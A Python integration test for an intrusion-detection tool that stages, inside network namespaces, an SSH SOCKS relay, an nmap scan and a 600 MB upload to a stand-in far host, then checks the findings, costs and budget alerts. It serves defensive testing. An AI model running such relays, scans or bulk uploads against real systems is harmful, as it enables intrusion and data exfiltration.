#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The night that this project is for, between namespaces: a plain download is quiet; then a login by a leaked key relays (ssh -D), scans
(nmap) and pushes 600 MB to a place that AWS's list (the test's own) puts into me-south-1. Each is flagged while it goes on, with the right
process, session, key, region and cost, and the host is over its budget; what an operator decided outlives a restart, and nothing is found twice."""
import json
import sys
import time

from harness import BIN, Rig, check, note, wait_until
from report_checks import check_report
from sshd_host import SshHost

SINK, WEB = 9100, 9200
FAR = "203.0.113.9"
SINK_SERVER = """
import socket, threading
listener = socket.create_server(("0.0.0.0", 9100), backlog=64)
def drain(conn):
    with conn:
        while conn.recv(1 << 20):
            pass
        conn.sendall(b"all")
while True:
    threading.Thread(target=drain, args=(listener.accept()[0],), daemon=True).start()
"""
SENDER = """import socket, sys
block = b"x" * 1_000_000
with socket.create_connection((sys.argv[1], int(sys.argv[2]))) as s:
    for _ in range(int(sys.argv[3])):
        s.sendall(block)
    s.shutdown(socket.SHUT_WR)
    s.recv(3)
"""
RANGES = {"syncToken": "1", "createDate": "2026-01-01-00-00-00", "ipv6_prefixes": [],
          "prefixes": [{"ip_prefix": "203.0.113.0/24", "region": "me-south-1", "service": "AMAZON", "network_border_group": "me-south-1"},
                       {"ip_prefix": "203.0.113.0/24", "region": "me-south-1", "service": "EC2", "network_border_group": "me-south-1"}]}
PRICES = """date = "2026-01-31"
bytes_per_gb = 1000000000
[[inter_region]]
from = "ap-south-1"
to = "*"
as_of = "2026-01-31"
source = "this test"
micro_usd_per_gb = 86000
"""
RELAY_SECONDS, EGRESS_SECONDS, SCAN_SECONDS = 10, 60, 20  # bounds against a loaded machine; what was needed is printed


def findings(rig, rule):
    return rig.query("findings", "--rule", rule)


def flagged(rig, rule, seconds):
    began = time.monotonic()
    found = wait_until(f"a finding of {rule}", lambda: findings(rig, rule), seconds)
    check(len(found) == 1, f"{len(found)} findings of {rule}")
    note(f"{rule}: flagged {time.monotonic() - began:.1f} s after it was looked for")
    return found[0]


def with_session(rig, rule, host, user):
    """The finding, once it names the login: its line of the log comes a little later."""
    def told():
        session = findings(rig, rule)[0].get("session") or {}
        return session.get("key_fingerprint") and session
    session = wait_until(f"{rule} names the login", told, 20)
    check((session["user"], session["address"], session["method"], session["key_fingerprint"]) ==
          (user, host.outside.v4, "publickey", host.fingerprint()), f"{session}")
    reason = findings(rig, rule)[0]["reason"]
    check(f"session of {user} from {host.outside.v4}, key {host.fingerprint()}" in reason, reason)


def check_quiet(rig, host):
    host.inside.run("curl", "-sf", "-o", "/dev/null", f"http://{host.outside.v4}:{WEB}/page")
    host.inside.run("curl", "-sf", "-o", "/dev/null", f"http://{FAR}:{WEB}/page")
    wait_until("the downloads", lambda: len(rig.flows("--port", WEB, "--direction", "out")) >= 2, 20)
    check(not rig.query("findings"), f"a download is flagged: {rig.query('findings')}")


def check_relay(rig, host):
    client = host.hold("alice", "-D", "7002")
    wait_until("the client's SOCKS port", lambda: ":7002" in host.outside.run("ss", "-ltn").stdout)
    host.outside.run("curl", "-sf", "-o", "/dev/null", "--socks5", "127.0.0.1:7002", f"http://{FAR}:{WEB}/page")
    found = flagged(rig, "ssh-relay", RELAY_SECONDS)
    check(found["exe"] == "/usr/sbin/sshd", f"{found['exe']}")
    target = found["targets"][0]
    check((target["address"], target["port"], target["region"], target["service"]) == (FAR, WEB, "me-south-1", "EC2"), f"{target}")
    with_session(rig, "ssh-relay", host, "alice")
    client.stop(5)
    return found


def check_scan(rig, host):
    host.ssh("alice", f"nmap -n -Pn -sT --max-retries 0 --host-timeout 20s -p 1-200 {host.outside.v4} > /dev/null", options=host.key())
    found = flagged(rig, "scan", SCAN_SECONDS)
    check(found["exe"] == "/usr/bin/nmap" and "-sT" in found["command_line"], f"{found}")
    with_session(rig, "scan", host, "alice")


def check_egress(rig, host, sender):
    run = rig.spawn(*host.command("alice", f"exec python3 {sender} {FAR} {SINK} 600", options=host.key()))
    found = flagged(rig, "egress", EGRESS_SECONDS)
    check("python3" in found["command_line"] and str(sender) in found["command_line"], f"{found['command_line']}")
    check([t["region"] for t in found["targets"] if t["address"] == FAR] == ["me-south-1"], f"{found['targets']}")
    with_session(rig, "egress", host, "alice")
    run.process.wait(60)
    check_cost(rig)
    shown = rig.culprit("finding", found["id"])
    for words in ("much data to new places", "alice from", host.fingerprint(), "me-south-1", "T1041", "culprit session",
                  "by the prices of 2026-01-31", "ap-south-1 -> me-south-1", "outside working hours", "started under sshd"):
        check(words in shown, f"no {words!r} in:\n{shown}")
    return found


def check_cost(rig):
    """The 600 MB are $0.05; the host's budget is 2 cents an hour."""
    def priced():
        cost = findings(rig, "egress")[0]["cost"]
        return cost["micro_usd"] > 40_000 and cost
    cost = wait_until("the cost of the upload", priced, 30)
    check(cost["shares"][0]["to"] == "me-south-1" and cost["prices_date"] == "2026-01-31", f"{cost}")
    budget = wait_until("a finding of budget", lambda: findings(rig, "budget"), 30)[0]
    check("its budget is $0.0200" in budget["reason"] and "python3" in budget["reason"], budget["reason"])


def check_decisions(rig, relay):
    decided = rig.query("finding", relay["id"], "--ack", "isolating it")[0]
    check(decided["state"] != relay["state"], f"{decided}")
    before = {f["id"]: f["state"] for f in rig.query("findings")}
    rig.collector.stop(20)
    rig.start_collector()
    wait_until("the agent is back", lambda: rig.host()["state"] == "online", 30)
    after = {f["id"]: f["state"] for f in rig.query("findings")}
    check(after == before, f"findings before the restart {before}, after {after}")
    check("Stepping Stones" in rig.culprit("explain", "relay"), "explain says nothing of its sources")


def main():
    with Rig("detection") as rig:
        ranges = rig.dir / "ip-ranges.json"
        ranges.write_text(json.dumps(RANGES))
        prices = rig.dir / "prices.toml"
        prices.write_text(PRICES)
        # No hour is a working hour but one that is not now, wherever the test runs.
        busy = (time.gmtime().tm_hour + 12) % 24
        rig.collector_extra = (f'[geo]\nip_ranges = "{ranges}"\n[cost]\nprices = "{prices}"\nregion = "ap-south-1"\n'
                               f'[detect.budget]\nusd_per_hour = 0.02\n'
                               f'[detect.hours]\nzone = "UTC"\nbegin_hour = {busy}\nend_hour = {busy + 1}\n')
        rig.start_collector()
        outside, inside = rig.namespaces()
        outside.run("ip", "addr", "add", f"{FAR}/24", "dev", outside.interface)
        inside.run("ip", "route", "add", "203.0.113.0/24", "dev", inside.interface)
        inside.run("ip", "neigh", "replace", FAR, "lladdr", outside.mac, "dev", inside.interface, "nud", "permanent")
        host = SshHost(rig, inside, outside)
        rig.agent_extra = f'[logins]\nfiles = ["{host.log}"]\n'
        rig.start_agent()
        follower = rig.spawn(*follow_command(rig), log="follow.log")
        rig.spawn(*outside.command(sys.executable, "-c", SINK_SERVER))
        web = rig.dir / "web"
        web.mkdir()
        (web / "page").write_bytes(b"w" * 2_000_000)
        rig.spawn(*outside.command(sys.executable, "-m", "http.server", WEB, "--directory", web))
        for port in (SINK, WEB):
            wait_until(f"a listener at {port}", lambda port=port: f":{port}" in outside.run("ss", "-ltn").stdout)
        host.start()
        sender = rig.dir / "sender.py"
        sender.write_text(SENDER)
        check_quiet(rig, host)
        relay = check_relay(rig, host)
        check_scan(rig, host)
        check_egress(rig, host, sender)
        rules = [f["rule"] for f in rig.query("findings")]
        check(sorted(rules) == ["budget", "egress", "scan", "ssh-relay"], f"{rules}")
        told = {json.loads(line)["rule"] for line in follower.log.read_text().splitlines() if line.startswith("{")}
        check(told == {"budget", "egress", "scan", "ssh-relay"}, f"--follow told of {told}")
        check_report(rig, host, relay, FAR)
        check_decisions(rig, relay)
        note("PASSED")


def follow_command(rig):
    return BIN / "culprit", "--collector", f"127.0.0.1:{rig.port}", "--credentials", rig.pki, "findings", "--follow", "--json"


if __name__ == "__main__":
    main()
